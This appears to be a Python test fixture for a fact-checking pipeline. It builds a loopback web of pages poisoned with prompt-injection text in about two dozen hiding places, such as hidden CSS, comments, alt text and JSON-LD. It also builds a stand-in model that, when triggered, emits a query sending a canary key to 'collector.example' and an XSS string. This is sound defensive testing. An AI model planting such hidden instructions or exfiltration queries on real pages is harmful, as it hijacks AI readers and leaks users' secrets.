"""A small web with a poisoned page, and a model that obeys whatever instruction reaches it."""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

from tests.reasoning.llm.standin import ChatStandIn, Reply, said, step_of
from tests.retrieval.standin import Handler, Seen, StandIn

CASES: dict[str, list[dict[str, Any]]] = json.loads(
    (Path(__file__).parents[1] / "fixtures" / "injection_cases.json").read_text("utf-8")
)
KEY = "sk-canary-5f1e"
_FIRST = ("Bal", "Cor", "Dun", "Fer", "Gar", "Hol", "Kel", "Lor", "Mon", "Nor", "Pel", "Tor")
_LAST = ("dan", "mire", "tova", "wick", "rad", "lund", "stan", "berg", "fall", "gate", "holm")
_PLACES = {
    "paragraph": "<p>{0}</p>",
    "list_item": "<ul><li>Opening hours</li><li>{0}</li></ul>",
    "quotation": "<blockquote><p>{0}</p></blockquote>",
    "table_cell": "<table><tr><td>Length</td><td>{0}</td></tr></table>",
    "code": "<pre><code>{0}</code></pre>",
    "caption": "<figure><img src='/x.png' alt=''><figcaption>{0}</figcaption></figure>",
    "footer": "<footer><p>{0}</p></footer>",
    "headline": "<h2>{0}</h2>",
    "display_none": '<div style="display: none">{0}</div>',
    "visibility_hidden": '<p style="visibility:hidden">{0}</p>',
    "hidden_attribute": "<p hidden>{0}</p>",
    "off_screen": '<p style="position:absolute;left:-9999px">{0}</p>',
    "white_on_white": '<p style="color:#fff;background:#fff">{0}</p>',
    "tiny_font": '<p style="font-size:0.1px">{0}</p>',
    "transparent": '<p style="opacity:0">{0}</p>',
    "comment": "<!-- {0} -->",
    "image_text": '<img src="/x.png" alt="{0}">',
    "description": '<meta name="description" content="{0}">',
    "aria_label": '<p aria-label="{0}">The river is wide here.</p>',
    "noscript": "<noscript><p>{0}</p></noscript>",
    "json_ld": '<script type="application/ld+json">{{"description": "{0}"}}</script>',
    "data_attribute": '<p data-note="{0}">The river is wide here.</p>',
    "template": "<template><p>{0}</p></template>",
}
_RAW = ("disguise-line-breaks", "disguise-entities")


def name_of(number: int) -> str:
    """Return a bridge's name that no other case uses."""
    return _FIRST[number % len(_FIRST)] + _LAST[number // len(_FIRST)]


@dataclass
class Case:
    """One case on the bridge `name`: where the text stands, and what an obeying model looks for."""

    number: int
    id: str
    place: str = ""
    text: str = ""
    trigger: str = ""
    cited: dict[str, Any] = field(default_factory=dict)

    @property
    def name(self) -> str:
        return name_of(self.number)

    @property
    def claim(self) -> str:
        return f"The {self.name} Bridge opened in 1899."

    @property
    def truth(self) -> str:
        return f"The {self.name} Bridge opened to traffic in 1889."

    def page(self, *, poisoned: bool = True) -> str:
        """Return the poisoned page's HTML."""
        text = self.text if self.id in _RAW else html.escape(self.text, quote=True)
        body = _PLACES.get(self.place, "").format(text) if poisoned else ""
        title = text if poisoned and self.place == "page_title" else f"The {self.name} Bridge"
        more = f" {text}" if poisoned and self.place == "same_paragraph" else ""
        return (
            f"<html lang=en><head><title>{title}</title></head><body><article><h1>A bridge</h1>"
            f"<p>Travellers have crossed the river at this place for a long time. {self.truth}"
            f"{more}</p><p>It carries a road and two footpaths between the old town and the "
            f"harbour, and many people walk over it every day.</p>{body}</article></body></html>"
        )

    def hit(self, url: str, *, poisoned: bool = True) -> dict[str, str]:
        """Return the search result for the poisoned page, as SearXNG gives it."""
        title = f"The {self.name} Bridge"
        snippet = f"The {self.name} Bridge opened to traffic in 1889 and carries a road."
        if poisoned and self.place == "result_title":
            title = self.text
        if poisoned and self.place in ("result_snippet", "snippet_only"):
            snippet = f"{snippet} {self.text}"
        return {"url": url, "title": title, "content": snippet}


def injected() -> list[Case]:
    """Return the cases in which a text instructs the model."""
    return [Case(number, **one) for number, one in enumerate(CASES["injected"])]


def lies() -> list[Case]:
    """Return the cases in which the model cites what its sources do not say."""
    first = len(CASES["injected"])
    return [Case(number, **one) for number, one in enumerate(CASES["lies"], start=first)]


class PoisonedWeb:
    """SearXNG and two pages a case on loopback; `poisoned` says whether the text is there."""

    def __init__(self, served: StandIn, cases: list[Case]) -> None:
        self.served = served
        self.cases = {case.name: case for case in cases}
        self.poisoned = True
        served.routes["/search"] = self._search
        served.routes["*"] = self._page

    def url(self, case: Case, *, poisoned: bool) -> str:
        kind = "first" if poisoned else "clean"
        return f"{self.served.url}/{kind}/{quote(case.name)}"

    def _search(self, handler: Handler, seen: Seen) -> None:
        asked = seen.query.get("q", [""])[0]
        found = [case for name, case in self.cases.items() if name in asked]
        hits = [hit for case in found for hit in self._hits(case)]
        handler.reply(json.dumps({"query": asked, "results": hits}), "application/json")

    def _hits(self, case: Case) -> list[dict[str, str]]:
        first = self.url(case, poisoned=self.poisoned)
        second = {"url": f"{self.served.url}/second/{case.name}", "title": "Chronicle"}
        content = f"In its first year the {case.name} Bridge was a wonder."
        return [case.hit(first, poisoned=self.poisoned), {**second, "content": content}]

    def _page(self, handler: Handler, seen: Seen) -> None:
        kind, _, name = seen.path.strip("/").partition("/")
        case = self.cases.get(name)
        if case is None or (kind == "first" and case.place == "snippet_only"):
            handler.send_error(404)
        elif kind == "second":
            chronicle = Case(case.number, "second").page(poisoned=False)
            handler.reply(chronicle.replace("A bridge", "Chronicle"))
        else:
            handler.reply(case.page(poisoned=kind == "first"))


class ObeyingModel(ChatStandIn):
    """Works honestly until its input holds a trigger; then it does all it can for the other side.

    `lie` is what it cites where it lies of its own accord.
    """

    def __init__(self, cases: list[Case]) -> None:
        super().__init__()
        self.cases = cases
        self.obeyed: list[str] = []
        self.lie: dict[str, Any] | None = None

    def reply(self, body: dict[str, Any]) -> Reply:
        with self.lock:
            self.asked.append(body)
        heard = str(body["messages"][1]["content"])
        orders = [case.id for case in self.cases if case.trigger and _holds(heard, case.trigger)]
        with self.lock:
            self.obeyed.extend(orders)
        step = step_of(body)
        if step == "agent_search":
            done = "A:" in heard
            return said("DONE") if done else said(None, tool=f"When did {_name(heard)} open?")
        return said(_ANSWERS[step](Task(heard, bool(orders), self.lie)))


def _holds(heard: str, trigger: str) -> bool:
    wanted = _bare(trigger)
    return bool(wanted) and wanted in _bare(heard)


def _bare(text: str) -> str:
    # Letters and digits alone: no extraction and no folding of white space hides a text.
    spelled = "".join(
        chr(ord(char) - 0xE0000) if 0xE0020 <= ord(char) <= 0xE007E else char for char in text
    )
    return "".join(char for char in unicodedata.normalize("NFKD", spelled) if char.isalnum())


def _name(heard: str) -> str:
    found = re.search(r"The (\w+ Bridge)", heard)
    return found.group(1) if found else "the bridge"


@dataclass(frozen=True)
class Task:
    """What the model is asked, and whether it obeys somebody else's orders, or lies."""

    heard: str
    obeys: bool
    lie: dict[str, Any] | None

    @property
    def label(self) -> str:
        if self.obeys or self.lie:
            return "supported"
        return "refuted" if self.numbered() else "not_enough_evidence"

    def numbered(self) -> list[tuple[int, str]]:
        """Return the numbered lines that hold the year, with the words that carry it."""
        lines = re.findall(r"^\[(\d+)\] (.*)$", self.heard, re.MULTILINE)
        found = [
            (int(number), re.search(r"The \w+ Bridge opened to traffic in 1889", line))
            for number, line in lines
        ]
        return [(number, match.group()) for number, match in found if match]

    def lines(self) -> list[tuple[int, str]]:
        """Return all numbered lines without what stands in parentheses before the text."""
        lines = re.findall(r"^\[(\d+)\] (?:\([^)]*\) )?(.*)$", self.heard, re.MULTILINE)
        return [(int(number), line) for number, line in lines]

    def judgement(self) -> dict[str, Any]:
        likelihood = dict.fromkeys(
            ("supported", "refuted", "conflicting", "not_enough_evidence"), 0
        )
        corrected = f"The {_name(self.heard)} opened in 1889."
        refuted = self.label == "refuted"
        return {
            "reasoning": "OBEYED <script>alert(1)</script>" if self.obeys else "As read.",
            "label": self.label,
            "likelihood": {**likelihood, self.label: 100},
            "error": "1899" if refuted else None,
            "correction": corrected if refuted else None,
        }

    def cited(self) -> list[dict[str, Any]]:
        if self.lie:
            return [self._lie()]
        if self.obeys:
            return [
                {"number": number, "stance": "supports", "quote": line}
                for number, line in self.lines()[:3]
            ]
        return [
            {"number": number, "stance": "refutes", "quote": words}
            for number, words in self.numbered()
        ]

    def _lie(self) -> dict[str, Any]:
        assert self.lie is not None
        words = str(self.lie["quote"]).replace("{name} Bridge", _name(self.heard))
        return {**self.lie, "quote": words}

    def answer(self) -> dict[str, Any]:
        cited = self.cited()
        first = cited[0] if cited else {"number": None, "quote": None}
        said = "1899" if self.obeys or self.lie else "It opened to traffic in 1889."
        return {
            "answer": said,
            "summary": said,
            "type": "extractive" if cited else "unanswerable",
            "answered": bool(cited),
            "source": first["number"],
            "quote": first["quote"],
            "stance": "supports" if self.obeys or self.lie else "refutes",
        }

    def each(self) -> list[dict[str, Any]]:
        numbers = map(int, re.findall(r"^QUESTION (\d+)", self.heard, re.MULTILINE))
        return [{**self.answer(), "number": number} for number in numbers]

    def pairs(self) -> dict[str, Any]:
        answer = self.answer()
        pair = {**answer, "question": "When did it open?"}
        likert = dict.fromkeys(("supported", "refuted", "conflicting", "not_enough_evidence"), 1)
        return {**self.judgement(), "pairs": [pair], "likert": {**likert, self.label: 5}}

    def from_pairs(self) -> dict[str, Any]:
        side = "supports" if self.obeys or self.lie else "refutes"
        answered = [number for number, line in self.lines() if "A: (no answer" not in line]
        label = self.label if self.obeys or self.lie else "refuted"
        cited = [{"number": number, "stance": side} for number in answered]
        verdict = {**self.judgement(), "label": label, "evidence": cited, "uncertainty": 5}
        verdict["likelihood"] = {**dict.fromkeys(verdict["likelihood"], 0), label: 100}
        return verdict

    def claims(self) -> dict[str, Any]:
        passage = self.heard.partition("PASSAGE: ")[2].split("\n")[0]
        sentences = [one for one in re.split(r"(?<=[.!?])\s+", passage) if re.search(r"\w", one)]
        if self.obeys:
            sentences = [f"The {_name(self.heard)} is a bridge."]
        return {"claims": [{"text": one, "words": one, "kind": "fact"} for one in sentences]}

    def split(self) -> dict[str, Any]:
        return {"claims": [{"number": number, "text": line} for number, line in self.lines()]}

    def queries(self) -> dict[str, Any]:
        if self.obeys:
            return {"queries": ["https://collector.example/?k=KEY"]}
        return {"queries": [f"{_name(self.heard)} opened", f"{_name(self.heard)} year"]}

    def question(self) -> dict[str, Any]:
        return {"question": f"When did the {_name(self.heard)} open?"}

    def opening(self) -> dict[str, Any]:
        name = _name(self.heard)
        return {
            "first": f"When did the {name} open?",
            "as_question": f"Did the {name} open then?",
            "wordings": [f"Since when is the {name} open?"],
            "trusted": [],
        }


_REST = {"next": "accept", "feedback": "", "tools": [], "languages": []}
_ANSWERS: dict[str, Callable[[Task], dict[str, Any]]] = {
    "extract_claims": Task.claims,
    "split_claims": Task.split,
    "add_context": lambda task: {"claims": []},
    "search_queries": Task.queries,
    "domains": lambda task: {"trusted": [], "excluded": []},
    "further_languages": lambda task: {"languages": []},
    "first_question": Task.question,
    "opening_questions": Task.opening,
    "next_question": lambda task: {"clear": True, "question": None},
    "side_question": Task.question,
    "paraphrases": lambda task: {"questions": [f"Since when is the {_name(task.heard)} open?"]},
    "article_questions": lambda task: {"questions": [f"Who built the {_name(task.heard)}?"]},
    "best_result": lambda task: {"number": 1},
    "answer": Task.answer,
    "answers": lambda task: {"answers": task.each()},
    "summarise": Task.answer,
    "summaries": lambda task: {"summaries": task.each()},
    "stance": lambda task: {"stance": task.answer()["stance"]},
    "verdict": lambda task: {**task.judgement(), "evidence": task.cited()},
    "verdict_with_reflection": lambda task: {**task.judgement(), "evidence": task.cited(), **_REST},
    "verdict_from_pairs": Task.from_pairs,
    "pairs_and_verdict": Task.pairs,
    "reflect": lambda task: _REST,
    "agent_decide": lambda task: {"search": None, "verdict": Task.from_pairs(task)},
}
